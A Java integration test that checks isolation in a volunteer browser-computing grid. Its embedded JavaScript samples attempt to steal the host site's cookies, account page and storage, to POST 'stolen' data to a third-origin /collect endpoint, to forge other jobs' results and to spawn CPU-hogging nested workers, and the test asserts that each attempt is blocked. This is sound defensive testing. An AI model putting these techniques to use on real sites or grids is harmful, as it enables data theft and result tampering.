package io.partita.it;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import io.partita.coordinator.CoordinatorConfig;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.openqa.selenium.By;
import org.openqa.selenium.chrome.ChromeDriver;
import org.openqa.selenium.logging.LogEntry;
import org.openqa.selenium.logging.LogType;

/**
 * Job code in a volunteer's browser is isolated from the site that embeds volunteer.js, from other
 * origins and from other jobs, and held to its CPU share (issue 18, "Volunteers' browsers"). The
 * embedding site is a real web server on another port (another origin) with an HttpOnly session
 * cookie, an {@code /account} page, IndexedDB and localStorage data; a third server stands for any
 * other origin and records every request it gets. Headless Chromium, the real coordinator.
 */
class BrowserIsolationIT {
    /** Tries everything the audit did, and says what it got. */
    static final String HOSTILE = """
            export async function compute(i) {
              const seen = {};
              const attempt = async (name, f) => {
                try { seen[name] = String(await f()).slice(0, 300); }
                catch (e) { seen[name] = 'blocked: ' + (e && e.name ? e.name : String(e)); }
              };
              const within = (p, ms) => Promise.race([p, new Promise((ok) => setTimeout(() => ok('no answer'), ms))]);
              await attempt('origin', () => self.origin);
              await attempt('account', async () => {
                const r = await fetch('SITE/account', {credentials: 'include'});
                return r.status + ' ' + await r.text();
              });
              await attempt('accountNoCors', async () => (await fetch('SITE/account', {credentials: 'include', mode: 'no-cors'})).type);
              await attempt('cookie', () => typeof document === 'undefined' ? 'no document' : document.cookie);
              await attempt('cookieStore', () => typeof cookieStore === 'undefined' ? 'no cookieStore'
                : within(cookieStore.getAll().then((c) => JSON.stringify(c)), 2000));
              await attempt('indexedDB', () => within(new Promise((ok, bad) => {
                const r = indexedDB.open('siteDb');
                r.onsuccess = () => ok('opened: ' + Array.from(r.result.objectStoreNames).join(','));
                r.onerror = () => bad(r.error);
              }), 3000));
              await attempt('localStorage', () => typeof localStorage === 'undefined' ? 'no localStorage' : localStorage.getItem('secret'));
              await attempt('third', async () => (await fetch('THIRD/collect', {method: 'POST', body: 'stolen', mode: 'no-cors'})).type);
              await attempt('webSocket', () => within(new Promise((ok, bad) => {
                const ws = new WebSocket('THIRD_WS/ws');
                ws.onopen = () => ok('open');
                ws.onerror = () => bad(new Error('refused'));
              }), 3000));
              await attempt('dynamicImport', () => within(import('THIRD/x.mjs').then(() => 'imported'), 3000));
              await attempt('nestedWorker', () => {
                new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], {type: 'text/javascript'})));
                return 'started';
              });
              await attempt('sharedWorker', () => { new SharedWorker('data:text/javascript,1'); return 'started'; });
              await attempt('parent', () => typeof parent === 'undefined' ? 'no parent' : 'a parent');
              return seen;
            }
            """;

    @TempDir
    Path dir;

    Grid grid;
    Browsers browsers;
    HttpServer site;
    HttpServer third;
    final AtomicInteger accountRequests = new AtomicInteger();
    final List<String> thirdRequests = new CopyOnWriteArrayList<>();

    @BeforeEach
    void start() throws Exception {
        grid = new Grid(dir, CoordinatorConfig.builder().auth(false).heartbeatInterval(Duration.ofMillis(500)));
        browsers = new Browsers(grid.coordinator.url(), dir);
        site = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        site.createContext("/site.html", ex -> {
            ex.getResponseHeaders().add("Set-Cookie", "session=SECRET-SESSION; HttpOnly; Path=/; SameSite=Lax");
            ex.getResponseHeaders().add("Set-Cookie", "visible=VISIBLE-COOKIE; Path=/; SameSite=Lax");
            String query = ex.getRequestURI().getRawQuery();
            respond(ex, 200, "text/html; charset=utf-8", sitePage(query == null ? "" : query));
        });
        site.createContext("/account", ex -> {
            accountRequests.incrementAndGet();
            String cookie = ex.getRequestHeaders().getFirst("Cookie");
            boolean in = cookie != null && cookie.contains("session=SECRET-SESSION");
            respond(ex, in ? 200 : 401, "text/plain", in ? "ACCOUNT-SECRET of the signed-in visitor" : "sign in");
        });
        site.start();
        third = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        third.createContext("/", ex -> {
            thirdRequests.add(ex.getRequestMethod() + " " + ex.getRequestURI());
            respond(ex, 200, "text/javascript", "export default 1;");
        });
        third.start();
    }

    @AfterEach
    void stop() throws Exception {
        browsers.printConsoles();
        browsers.close();
        site.stop(0);
        third.stop(0);
        grid.close();
    }

    static void respond(HttpExchange ex, int status, String type, String body) throws IOException {
        byte[] bytes = body.getBytes(StandardCharsets.UTF_8);
        ex.getResponseHeaders().add("Content-Type", type);
        ex.sendResponseHeaders(status, bytes.length);
        try (OutputStream out = ex.getResponseBody()) {
            out.write(bytes);
        }
    }

    String siteOrigin() {
        return "http://127.0.0.1:" + site.getAddress().getPort();
    }

    String thirdOrigin() {
        return "http://127.0.0.1:" + third.getAddress().getPort();
    }

    /**
     * The site: it stores secrets in its IndexedDB and localStorage, reads its own /account (which
     * works: the control that shows the secrets are there to take), then embeds volunteer.js with
     * the data- attributes of the query ({@code cpu=1&workers=1}).
     */
    String sitePage(String query) {
        StringBuilder attrs = new StringBuilder(" data-consent=\"granted\"");
        for (String pair : query.split("&")) {
            int eq = pair.indexOf('=');
            if (eq > 0
                    && pair.substring(0, eq).matches("[a-z-]+")
                    && pair.substring(eq + 1).matches("[A-Za-z0-9.]+")) {
                attrs.append(" data-")
                        .append(pair, 0, eq)
                        .append("=\"")
                        .append(pair.substring(eq + 1))
                        .append('"');
            }
        }
        return "<!doctype html><html><head><title>A site with accounts</title></head><body><h1>My account</h1>"
                + "<p id=\"account\">…</p><p id=\"idb\">…</p><script>"
                + "localStorage.setItem('secret', 'SECRET-LOCALSTORAGE');"
                + "var open = indexedDB.open('siteDb', 1);"
                + "open.onupgradeneeded = function () { open.result.createObjectStore('secrets'); };"
                + "open.onsuccess = function () { var tx = open.result.transaction('secrets', 'readwrite');"
                + "  tx.objectStore('secrets').put('SECRET-INDEXEDDB', 'k');"
                + "  tx.oncomplete = function () { document.getElementById('idb').textContent = 'stored'; }; };"
                + "fetch('/account', {credentials: 'include'}).then(function (r) { return r.text(); })"
                + "  .then(function (t) { document.getElementById('account').textContent = t; });"
                + "</script><script src=\"" + grid.coordinator.url().resolve("/volunteer.js") + "\"" + attrs
                + " async></script></body></html>";
    }

    ChromeDriver openSite(String query) throws IOException {
        ChromeDriver driver = browsers.open();
        driver.get(siteOrigin() + "/site.html?" + query);
        await("the site has its secrets")
                .atMost(Duration.ofSeconds(20))
                .until(() -> driver.findElement(By.id("account")).getText().contains("ACCOUNT-SECRET")
                        && driver.findElement(By.id("idb")).getText().equals("stored"));
        return driver;
    }

    void awaitBrowserWorkers(int n) {
        await("browser workers connected")
                .atMost(Duration.ofSeconds(60))
                .until(() -> grid.browserWorkers().size() >= n);
    }

    static JsonNode firstOutput(JsonNode result) {
        return result.isArray() ? result.get(0) : result;
    }

    @Test
    void hostileJob_getsNeitherTheSitesCookieNorItsStorageNorAnyOtherOrigin() throws Exception {
        openSite("cpu=1&workers=1");
        awaitBrowserWorkers(1);
        int accountBefore = accountRequests.get();
        String source = HOSTILE.replace("THIRD_WS", thirdOrigin().replace("http:", "ws:"))
                .replace("SITE", siteOrigin())
                .replace("THIRD", thirdOrigin());
        String id = grid.api.submit(Grid.jsSpec(source, "\"partitions\":1,\"options\":{\"maxAttempts\":1}"));
        grid.awaitStatus(id, "done", Duration.ofSeconds(60));
        JsonNode seen = firstOutput(grid.api.get("/api/jobs/" + id + "/result").json());

        assertThat(seen.get("origin").asText()).as("the job's origin is opaque").isEqualTo("null");
        assertThat(seen.get("account").asText()).startsWith("blocked");
        assertThat(seen.get("accountNoCors").asText()).startsWith("blocked");
        assertThat(seen.get("cookie").asText()).isEqualTo("no document");
        assertThat(seen.get("cookieStore").asText()).doesNotContain("SECRET").doesNotContain("VISIBLE");
        assertThat(seen.get("indexedDB").asText()).startsWith("blocked");
        assertThat(seen.get("localStorage").asText()).isIn("no localStorage").doesNotContain("SECRET");
        assertThat(seen.get("third").asText()).startsWith("blocked");
        assertThat(seen.get("webSocket").asText()).isNotEqualTo("open");
        assertThat(seen.get("dynamicImport").asText()).isNotEqualTo("imported");
        assertThat(seen.get("nestedWorker").asText()).startsWith("blocked");
        assertThat(seen.get("sharedWorker").asText()).startsWith("blocked");
        assertThat(seen.get("parent").asText()).isEqualTo("no parent");
        // the witnesses: neither the site's /account nor the third origin heard from the job
        assertThat(accountRequests.get()).isEqualTo(accountBefore);
        assertThat(thirdRequests).isEmpty();
    }

    /** Sum of i * i for i in [0, 800): the honest job's result. */
    static final long HONEST_SUM = 799L * 800 * 1599 / 6;

    static final String HONEST = """
            export function compute(i) { const end = Date.now() + 10; let x = 0; while (Date.now() < end) x++; return i * i; }
            export function combine(a, b) { return a + b; }
            """;

    /**
     * Wraps postMessage and onmessage, replaces JSON.stringify, and, three seconds after its first task
     * (when its own tasks are over and another job runs), forges reports of results (for every
     * task number it might guess, and as the old string frames) and grid calls.
     */
    static final String TAMPERING = """
            const seen = {jobs: [], forged: 0};
            let epoch = null;
            let top = 0;
            const original = self.onmessage;
            self.onmessage = function (ev) {
              const m = ev.data;
              if (m && m.t === 'run') {
                for (const t of m.tasks) {
                  if (!seen.jobs.includes(t.job)) seen.jobs.push(t.job);
                  epoch = t.e;
                  top = Math.max(top, t.lid);
                }
              }
              return original.call(this, ev);
            };
            const post = self.postMessage.bind(self);
            self.postMessage = function (m) {
              if (m && Array.isArray(m.rs)) for (const r of m.rs) r.v = 666;
              return post(m);
            };
            function forge() {
              if (epoch === null) return;
              const rs = [];
              const lids = [];
              for (let k = 1; k < top + 5000; k++) { rs.push({lid: k, ok: true, v: 666, ms: 1, n: 10}); lids.push(k); }
              post({t: 'r', e: epoch, n: rs.length, l: lids, ok: rs.length, f: 0, b: 0, rs: rs, c: 0, s: 0});
              post({t: 'r', e: epoch, n: 1, l: [top + 1], ok: 1, f: 0, b: 0, c: 99, s: 0,
                j: '{"job":"HONEST_ID","level":0,"index":1,"attempt":1,"ok":true,"output":666}'});
              post({t: 'c', calls: [{k: 1, f: 'examples/fib', a: '[1]', e: epoch, lid: top + 1}]});
              seen.forged++;
              if (seen.forged % 20 === 0) setTimeout(() => { throw new Error('forged ' + seen.forged); });
            }
            let forging = null;
            export function compute(i) {
              if (forging === null) forging = setTimeout(() => setInterval(forge, 10), 3000);
              JSON.stringify = () => '666';
              return i;
            }
            """;

    @Test
    void secondJobInTheTab_cannotChangeTheFirstJobsResults() throws Exception {
        ChromeDriver driver = openSite("cpu=1&workers=1");
        awaitBrowserWorkers(1);
        // the tampering job first: its Web Worker goes on forging while the honest job runs
        String tampering = grid.api.submit(Grid.jsSpec(TAMPERING, "\"partitions\":5"));
        grid.awaitStatus(tampering, "done", Duration.ofSeconds(60));
        long honestAt = System.currentTimeMillis();
        String honest = grid.api.submit(Grid.jsSpec(HONEST, "\"partitions\":800"));
        grid.awaitStatus(honest, "done", Duration.ofSeconds(60));

        assertThat(grid.api.get("/api/jobs/" + honest + "/result").json().asLong())
                .isEqualTo(HONEST_SUM);
        assertThat(grid.api.job(honest).get("counts").get("failed").asLong()).isZero();
        // the tampering job saw only its own tasks
        JsonNode its = grid.api.get("/api/jobs/" + tampering + "/result").json();
        assertThat(its.toString()).doesNotContain(honest);
        // and it was forging while the honest job ran, until the page ended its Web Worker for it
        List<LogEntry> logs = driver.manage().logs().get(LogType.BROWSER).getAll();
        assertThat(logs)
                .as("the forger ended while the honest job ran")
                .anyMatch(e -> e.getMessage().contains("sent results of tasks it does not hold")
                        && e.getMessage().contains(tampering)
                        && e.getTimestamp() >= honestAt);
    }

    @Test
    void nestedWorkers_stayWithinTheCpuShare_andPauseEndsThem() throws Exception {
        ChromeDriver driver = openSite("cpu=0.25&workers=1");
        awaitBrowserWorkers(1);
        // each task tries to start four spinning Web Workers, then works 50 ms
        String nesting = """
                const spin = 'let x = 0; for (;;) { x = (x * 31 + 7) % 1000003; }';
                let tried = null;
                export function compute(i) {
                  for (let k = 0; k < 4; k++) {
                    try { new Worker(URL.createObjectURL(new Blob([spin], {type: 'text/javascript'}))); tried = 'started'; }
                    catch (e) { tried = 'blocked: ' + e.name; }
                  }
                  const end = Date.now() + 50;
                  let x = i;
                  while (Date.now() < end) x = (x * 31 + 7) % 1000003;
                  return tried;
                }
                export function combine(a, b) { return a === 'started' || b === 'started' ? 'started' : a; }
                """;
        String id = grid.api.submit(Grid.jsSpec(nesting, "\"partitions\":100000"));
        await("the tab works")
                .atMost(Duration.ofSeconds(30))
                .until(() -> grid.api.job(id).get("counts").get("done").asLong() > 10);
        double working = chromiumCores(Duration.ofSeconds(8));
        // data-cpu=0.25 of one Web Worker, plus the browser's own work; with nested Workers it was 1.6
        // (on a loaded machine Chromium may get less than it asks for, so this is a ceiling; the
        // count of Web Worker threads below does not depend on the load)
        assertThat(working)
                .as("cores used by Chromium while working")
                .isLessThan(0.6)
                .isGreaterThan(0.05);
        // the page's clock and the job's one Web Worker; nested ones would add four per task
        assertThat(workerThreads()).as("Web Worker threads in Chromium").isBetween(1L, 3L);

        driver.executeScript("window.Partita.pause();");
        await("paused: the browser leaves")
                .atMost(Duration.ofSeconds(20))
                .until(() -> grid.browserWorkers().isEmpty());
        double paused = chromiumCores(Duration.ofSeconds(4));
        assertThat(paused).as("cores used by Chromium once paused").isLessThan(0.1);
    }

    /**
     * The CPU time of this test's Chromium processes (descendants of this JVM, which started
     * ChromeDriver) over a window, in cores: the sum of utime + stime from /proc, divided by the
     * wall time. Processes that start or end in the window count for what they used in it.
     */
    static double chromiumCores(Duration window) throws Exception {
        long t0 = System.nanoTime();
        java.util.Map<Long, Long> before = cpuTicks();
        Thread.sleep(window.toMillis());
        java.util.Map<Long, Long> after = cpuTicks();
        double seconds = (System.nanoTime() - t0) / 1e9;
        long ticks = 0;
        for (var e : after.entrySet()) {
            ticks += e.getValue() - before.getOrDefault(e.getKey(), 0L);
        }
        return ticks / 100.0 / seconds; // USER_HZ is 100 on Linux
    }

    /** Threads of this test's Chromium processes that run a dedicated Web Worker. */
    static long workerThreads() {
        return ProcessHandle.current()
                .descendants()
                .mapToLong(p -> {
                    try (var tasks = Files.list(Path.of("/proc/" + p.pid() + "/task"))) {
                        return tasks.filter(t -> {
                                    try {
                                        return Files.readString(t.resolve("comm"))
                                                .startsWith("DedicatedWorker");
                                    } catch (IOException e) {
                                        return false;
                                    }
                                })
                                .count();
                    } catch (IOException | RuntimeException e) {
                        return 0; // gone meanwhile
                    }
                })
                .sum();
    }

    static java.util.Map<Long, Long> cpuTicks() {
        java.util.Map<Long, Long> out = new java.util.HashMap<>();
        ProcessHandle.current().descendants().forEach(p -> {
            try {
                String stat = Files.readString(Path.of("/proc/" + p.pid() + "/stat"));
                String[] f = stat.substring(stat.lastIndexOf(')') + 2).split(" ");
                // fields 14 and 15 of stat (utime, stime) are 11 and 12 after the command
                out.put(p.pid(), Long.parseLong(f[11]) + Long.parseLong(f[12]));
            } catch (IOException | RuntimeException e) {
                // gone meanwhile
            }
        });
        return out;
    }
}
